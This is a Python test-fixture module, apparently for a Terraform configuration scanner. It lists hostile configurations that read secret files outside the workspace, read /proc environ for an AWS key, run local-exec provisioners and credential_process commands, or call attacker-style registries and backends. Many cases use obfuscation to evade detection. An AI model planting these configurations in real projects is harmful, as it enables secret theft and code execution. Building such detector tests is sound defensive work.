"""Configurations that attack, each with what shows that it succeeded.

`{secret}` is a file outside of the configuration that holds `SECRET`, `{folder}` the folder that it
is in, `{canary}` a file that must not come to be, `{port}` a port on loopback that listens, `{pid}`
a process whose environment is `ENVIRONMENT` and nothing else.
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import json
from collections.abc import Iterator, Mapping

from sekisho.domain.inspections import FindingKind

K = FindingKind

SECRET = "kagi-wa-koko-ni-aru-7731"
SECRET_NAME = "secret-outside.txt"
ENVIRONMENT = {"AWS_SECRET_ACCESS_KEY": SECRET}
INIT, VALIDATE, PLAN, APPLY = ("init",), ("init", "validate"), ("init", "plan"), ("init", "apply")


@dataclasses.dataclass(frozen=True)
class Hostile:
    """One attack: its files, the commands that carry it out, what it is found as.

    `shows`: `canary` (the file is there), `port` (somebody called), or a text in the output.
    """

    name: str
    files: Mapping[str, str]
    commands: tuple[str, ...]
    kind: FindingKind
    shows: str

    def laid(self, **places: object) -> dict[str, str]:
        """Return its files with the places filled in."""
        return {name: _filled(text, places) for name, text in self.files.items()}


def _filled(text: str, places: Mapping[str, object]) -> str:
    for name, value in places.items():
        text = text.replace("{" + name + "}", str(value))
    return text


def _digest(name: str) -> str:
    return hashlib.new(name, SECRET.encode()).hexdigest()


def _digest64(name: str) -> str:
    return base64.b64encode(hashlib.new(name, SECRET.encode()).digest()).decode()


READERS = {
    'file("{secret}")': SECRET,
    'filebase64("{secret}")': base64.b64encode(SECRET.encode()).decode(),
    'filemd5("{secret}")': _digest("md5"),
    'filesha1("{secret}")': _digest("sha1"),
    'filesha256("{secret}")': _digest("sha256"),
    'filesha512("{secret}")': _digest("sha512"),
    'filebase64sha256("{secret}")': _digest64("sha256"),
    'filebase64sha512("{secret}")': _digest64("sha512"),
    'tostring(fileexists("{secret}"))': "true",
    'join(",", fileset("{folder}", "*.txt"))': SECRET_NAME,
    'templatefile("{secret}", {})': SECRET,
    'core::file("{secret}")': SECRET,
}
"""Every function that reads a file, and what it tells."""

OUTSIDE = {
    "two dots": 'file("../secret-outside.txt")',
    "two dots behind a folder": 'file("a/../../secret-outside.txt")',
    "above the module": 'file("${path.module}/../secret-outside.txt")',
    "above the root": 'file("${path.root}/../secret-outside.txt")',
    "an escaped slash": 'file("..\\u002fsecret-outside.txt")',
    "put together": 'file(join("/", ["..", "secret-outside.txt"]))',
    "formatted": 'file(format("%s/secret-outside.txt", ".."))',
    "one of two": 'file(true ? "{secret}" : "main.tf")',
    "in a text": '"x ${file("{secret}")}"',
    "in a directive": '"%{ if true }${file("{secret}")}%{ endif }"',
    "in a heredoc": '<<-EOT\n  ${file("{secret}")}\n  EOT',
    "in a loop": '[for p in ["{secret}"] : file(p)][0]',
    "in an object": '{ a = file("{secret}") }.a',
    "as a key": 'keys({ (file("{secret}")) = 1 })[0]',
    "in an index": '{ "kagi-wa-koko-ni-aru-7731" = "kagi-wa-koko-ni-aru-7731" }[file("{secret}")]',
    "behind a comment in a text": '"/*${file("{secret}")}*/"',
    "behind a comment": 'file( # "main.tf"\n    "{secret}" /* x */ )',
    "a pattern": 'join(",", fileset(path.module, "../*.txt"))',
    "a loop of a text that takes a name": (
        '[for p in ["main.tf"] : "%{ for p in ["{secret}"] }${file(p)}%{ endfor }"][0]'
    ),
    "a folder out of a heredoc": 'file("${<<-EOT\n    ../\n  EOT\n  }/../secret-outside.txt")',
}
HIDDEN = {
    "a loop that takes Terraform's name": (
        '[for path in [{ module = "{folder}" }] : file("${path.module}/secret-outside.txt")][0]'
    ),
    "a loop that takes the name of locals": (
        '[for local in [{ a = "{secret}" }] : file(local.a)][0]'
    ),
    "a loop that takes the name of a loop": (
        '[for each in [{ key = "{secret}" }] : file(each.key)][0]'
    ),
    "a space that is taken away": 'file(" ${~ "{secret}" }")',
    "lines that are taken away": 'file(<<-EOT\n    ../secret-outside.txt${"" ~}\n  EOT\n  )',
    "a template behind a space": 'templatefile(" ${~ "t.tpl" }", {})',
}
UNKNOWN = {
    "a variable": "file(var.path)",
    "where Terraform works": 'file("${path.cwd}/../secret-outside.txt")',
    "a whole path": 'file("${abspath(path.module)}/../secret-outside.txt")',
    "a replacement": 'file(replace("{secret}", "x1x", ""))',
    "a decoding": 'file(base64decode("{encoded}"))',
    "an attempt": 'try(file(lower("{secret}")), file(chomp("{secret}\\n")))',
    "a lookup": 'file({ p = "{secret}" }["p"])',
    "an element": 'file(element(["{secret}"], 0))',
}


def _output(expression: str) -> str:
    return f'output "x" {{\n  value = {expression}\n}}\n'


def _hiding(call: str) -> str:
    """Put a call where names mean something harmless."""
    return (
        'locals {\n  a = "main.tf"\n}\nresource "terraform_data" "a" {\n'
        f'  for_each = toset(["main.tf"])\n  input    = {call}\n}}\n'
    )


def _readings() -> Iterator[Hostile]:
    for call, told in READERS.items():
        kind = K.FILE_OUTSIDE
        yield Hostile(f"reads by {call}", {"main.tf": _output(call)}, PLAN, kind, told)
    for name, call in OUTSIDE.items():
        told = SECRET_NAME if "fileset" in call else SECRET
        yield Hostile(f"reads, {name}", {"main.tf": _output(call)}, PLAN, K.FILE_OUTSIDE, told)
    for name, call in HIDDEN.items():
        files = {"main.tf": _hiding(call), "t.tpl": READS.join(("${", "}"))}
        yield Hostile(f"reads, {name}", files, PLAN, K.FILE_UNKNOWN, SECRET)
    for name, space in {"no-break space": "\u00a0", "next line": "\u0085"}.items():
        text = _output(f"[<<EOT\n{space}EOT\n  , {READS}, <<EOT\nEOT\n  ][1]")
        kind = K.UNMODELLED
        yield Hostile(f"reads, a heredoc's end and {name}", {"main.tf": text}, PLAN, kind, SECRET)
    path = 'variable "path" {\n  default = "{secret}"\n}\n'
    for name, call in UNKNOWN.items():
        files = {"main.tf": path + _output(call)}
        yield Hostile(f"reads, {name}", files, PLAN, K.FILE_UNKNOWN, SECRET)


READS = 'file("{secret}")'
PLACES = {
    "a local": f"locals {{\n  a = {READS}\n}}\n{_output('local.a')}",
    "a resource": f'resource "terraform_data" "a" {{\n  input = {READS}\n}}\n',
    "a condition's words": (
        'resource "terraform_data" "a" {\n  lifecycle {\n    precondition {\n'
        f'      condition     = path.root == ""\n      error_message = {READS}\n'
        "    }\n  }\n}\n"
    ),
    "a check's words": (
        'check "a" {\n  assert {\n    condition     = path.root == ""\n'
        f"    error_message = {READS}\n  }}\n}}\n"
    ),
    "a validation's words": (
        'variable "v" {\n  default = "x"\n  validation {\n    condition     = var.v != "x"\n'
        f"    error_message = {READS}\n  }}\n}}\n"
    ),
    "a loop over resources": (
        f'resource "terraform_data" "a" {{\n  for_each = toset([{READS}])\n'
        "  input    = each.key\n}\n"
    ),
}


def _placed() -> Iterator[Hostile]:
    for name, text in PLACES.items():
        yield Hostile(f"reads from {name}", {"main.tf": text}, PLAN, K.FILE_OUTSIDE, SECRET)
    module = 'module "m" {\n  source = "./.m"\n}\n' + _output("module.m.x")
    files = {"main.tf": module, ".m/main.tf": _output(READS)}
    yield Hostile("reads from a hidden module", files, PLAN, K.FILE_OUTSIDE, SECRET)
    given = 'module "m" {\n  source = "./m"\n  p      = ' + READS + "\n}\n" + _output("module.m.x")
    files = {"main.tf": given, "m/main.tf": 'variable "p" {\n}\n' + _output("var.p")}
    yield Hostile("reads for a module", files, PLAN, K.FILE_OUTSIDE, SECRET)
    text = f"locals {{\n  a = {READS}\n}}\n" + _output("tonumber(local.a)")
    yield Hostile("reads while validating", {"main.tf": text}, VALIDATE, K.FILE_OUTSIDE, SECRET)
    text = _output('filebase64("/proc/{pid}/environ")')
    whole = "".join(f"{name}={value}\0" for name, value in ENVIRONMENT.items())
    told = base64.b64encode(whole.encode()).decode()
    yield Hostile("reads an environment", {"main.tf": text}, PLAN, K.FILE_OUTSIDE, told)
    text = json.dumps({"output": {"x": {"value": '${file("{secret}")}'}}})
    yield Hostile("reads from JSON", {"main.tf.json": text}, PLAN, K.FILE_OUTSIDE, SECRET)
    files = {"main.tf": _output('templatefile("t.tpl", {})'), "t.tpl": '${file("{secret}")}'}
    yield Hostile("reads from a template", files, PLAN, K.FILE_OUTSIDE, SECRET)
    composed = _output('templatefile("か\u3099.tpl", {})')
    files = {"main.tf": composed, "が.tpl": '${file("{secret}")}'}
    yield Hostile("reads from a composed template", files, PLAN, K.FILE_OUTSIDE, SECRET)
    each = _output('[for f in fileset(path.module, "*.tpl") : templatefile(f, {})][0]')
    files = {"main.tf": each, "t.tpl": '${file("{secret}")}'}
    yield Hostile("reads from one of some templates", files, PLAN, K.FILE_OUTSIDE, SECRET)
    outside = 'module "m" {\n  source = "../outside"\n}\n' + _output("module.m.x")
    yield Hostile("a module outside", {"main.tf": outside}, PLAN, K.MODULE_OUTSIDE, SECRET)
    files = {
        "main.tf": 'variable "v" {\n  default = "harmless"\n}\n' + _output("var.v"),
        "main_override.tf": _output(READS),
    }
    yield Hostile("an override", files, PLAN, K.OVERRIDE_FILE, SECRET)
    state = (
        'data "terraform_remote_state" "s" {\n  backend = "local"\n'
        '  config  = { path = "../other.tfstate" }\n}\n'
        + _output("nonsensitive(data.terraform_remote_state.s.outputs.x)")
    )
    yield Hostile("another's state", {"main.tf": state}, PLAN, K.REMOTE_STATE_UNSAFE, SECRET)


TOUCH = 'command = "touch {canary}"'


def _provisioner(label: str, more: str = "") -> str:
    return (
        f'resource "terraform_data" "a" {{\n{more}  provisioner {label} {{\n    {TOUCH}\n  }}\n}}\n'
    )


PROGRAMS = {
    "a provisioner": _provisioner('"local-exec"'),
    "a provisioner without quotes": _provisioner("local-exec"),
    "a provisioner, escaped": _provisioner('"local\\u002dexec"'),
    "a provisioner behind a comment in a text": (
        'locals {\n  a = "/*"\n}\n' + _provisioner('"local-exec"') + 'locals {\n  b = "*/"\n}\n'
    ),
    "a provisioner behind a heredoc": (
        "locals {\n  a = <<EOT\n/*\nEOT\n}\n" + _provisioner('"local-exec"') + "# */\n"
    ),
    "a provisioner in a loop": _provisioner('"local-exec"', '  for_each = toset(["a"])\n'),
    "a provisioner of an interpreter": (
        'resource "terraform_data" "a" {\n  provisioner "local-exec" {\n'
        '    interpreter = ["/bin/sh", "-c"]\n    command     = "touch {canary}"\n  }\n}\n'
    ),
}


def _runnings() -> Iterator[Hostile]:
    for name, text in PROGRAMS.items():
        yield Hostile(name, {"main.tf": text}, APPLY, K.PROVISIONER, "canary")
    inner = {"local-exec": {"command": "touch {canary}"}}
    whole = {"resource": {"terraform_data": {"a": {"provisioner": inner}}}}
    text = json.dumps(whole)
    yield Hostile("a provisioner in JSON", {"a.tf.json": text}, APPLY, K.PROVISIONER, "canary")
    whole = {"resource": [{"terraform_data": [{"a": [{"provisioner": [inner]}]}]}]}
    text = json.dumps(whole)
    yield Hostile("a provisioner in lists", {"a.tf.json": text}, APPLY, K.PROVISIONER, "canary")
    module = 'module "m" {\n  source = "./.git-ignored"\n}\n'
    files = {"main.tf": module, ".git-ignored/a.tf": PROGRAMS["a provisioner"]}
    yield Hostile("a provisioner in a hidden module", files, APPLY, K.PROVISIONER, "canary")
    ssh = (
        'resource "terraform_data" "a" {\n  provisioner "remote-exec" {\n    inline = ["id"]\n'
        '    connection {\n      host    = "127.0.0.1"\n      port    = {port}\n'
        '      user    = "x"\n      password = "x"\n      timeout = "3s"\n    }\n  }\n}\n'
    )
    yield Hostile("a provisioner elsewhere", {"main.tf": ssh}, APPLY, K.PROVISIONER, "port")
    backend = (
        'terraform {\n  backend "s3" {\n    bucket = "b"\n    key    = "k"\n'
        '    region = "ap-northeast-1"\n    profile = "p"\n'
        '    shared_config_files = ["aws.ini"]\n'
        '    endpoints = { s3 = "http://127.0.0.1:{port}", sts = "http://127.0.0.1:{port}" }\n'
        "    max_retries = 1\n  }\n}\n"
    )
    process = "[profile p]\nregion = ap-northeast-1\ncredential_process = touch {canary}\n"
    files = {"main.tf": backend, "aws.ini": process}
    yield Hostile("a backend's credentials", files, INIT, K.BACKEND_CREDENTIALS, "canary")
    program = "#!/bin/sh\ntouch {canary}\nexit 1\n"
    name = "terraform.d/plugins/registry.terraform.io/hashicorp/null/9.9.9/linux_amd64/"
    needs = (
        'terraform {\n  required_providers {\n    null = { source = "hashicorp/null" }\n  }\n}\n'
    )
    files = {
        "main.tf": needs + 'resource "null_resource" "a" {\n}\n',
        name + "terraform-provider-null_v9.9.9_x5": program,
    }
    yield Hostile("a provider that came along", files, PLAN, K.PLUGIN_FOLDER, "canary")


HTTP = 'terraform {\n  backend "http" {\n    address = "http://127.0.0.1:{port}/s"\n  }\n}\n'
THEIRS = """terraform {
  required_providers {
    x = { source = "127.0.0.1:{port}/a/x" }
  }
}
"""
COMPUTED = """terraform {
  required_providers {
    x = { source = "hashicorp/null", (true ? "source" : "") = "127.0.0.1:{port}/a/x" }
  }
}
"""
REMOTE = """data "terraform_remote_state" "s" {
  backend = "http"
  config  = { address = "http://127.0.0.1:{port}/s", retry_max = 0 }
}
"""
CLOUD = """terraform {
  cloud {
    hostname     = "127.0.0.1:{port}"
    organization = "x"
    token        = "x"
    workspaces {
      name = "x"
    }
  }
}
"""


def _module(source: str) -> str:
    return f'module "m" {{\n  source = "{source}"\n}}\n'


CALLS = {
    "a backend on the network": (HTTP, INIT, K.BACKEND_CREDENTIALS),
    "a module from the network": (
        _module("http://127.0.0.1:{port}/m.zip"),
        INIT,
        K.MODULE_SOURCE,
    ),
    "a module from Git": (_module("git::http://127.0.0.1:{port}/m.git"), INIT, K.MODULE_SOURCE),
    "a module of a registry of theirs": (_module("127.0.0.1:{port}/a/b/c"), INIT, K.MODULE_SOURCE),
    "a provider of a registry of theirs": (THEIRS, INIT, K.PROVIDER_SOURCE),
    "a provider whose source is a computed key": (COMPUTED, INIT, K.UNMODELLED),
    "a state on the network": (REMOTE, PLAN, K.REMOTE_STATE_UNSAFE),
    "a cloud of theirs": (CLOUD, INIT, K.CLOUD),
}


def _callings() -> Iterator[Hostile]:
    for name, (text, commands, kind) in CALLS.items():
        yield Hostile(name, {"main.tf": text}, commands, kind, "port")


ALL: tuple[Hostile, ...] = (*_runnings(), *_callings(), *_placed(), *_readings())
